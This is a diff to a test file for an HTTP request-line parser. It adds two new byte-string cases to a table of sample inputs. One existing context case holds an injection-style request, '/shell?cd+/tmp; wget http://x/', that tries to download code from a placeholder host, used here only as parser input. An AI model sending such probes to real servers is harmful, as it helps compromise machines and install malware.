@@ -60,6 +60,8 @@ def test_split_target(target: bytes, path: bytes, authority: bytes, credentials:
     [
         (b"a=bGET /x HTTP/1.1\r\n", b"GET /x HTTP/1.1\r\n"),
         (b"GET /shell?cd+/tmp; wget http://x/ HTTP/1.1\r\n", b"GET /shell?cd+/tmp; wget http://x/ HTTP/1.1\r\n"),
+        (b"RPC_IN_DATA /rpc HTTP/1.1\r\n", b"RPC_IN_DATA /rpc HTTP/1.1\r\n"),
+        (b"so GO_ON /rpc HTTP/1.1\r\n", b""),
         (b"\0\0HTTP/1.1 200 OK\r\n", b"HTTP/1.1 200 OK\r\n"),
         (b"see HTTP/1.1 for more\r\n", b""),
         (b"GET the thing\r\n", b""),
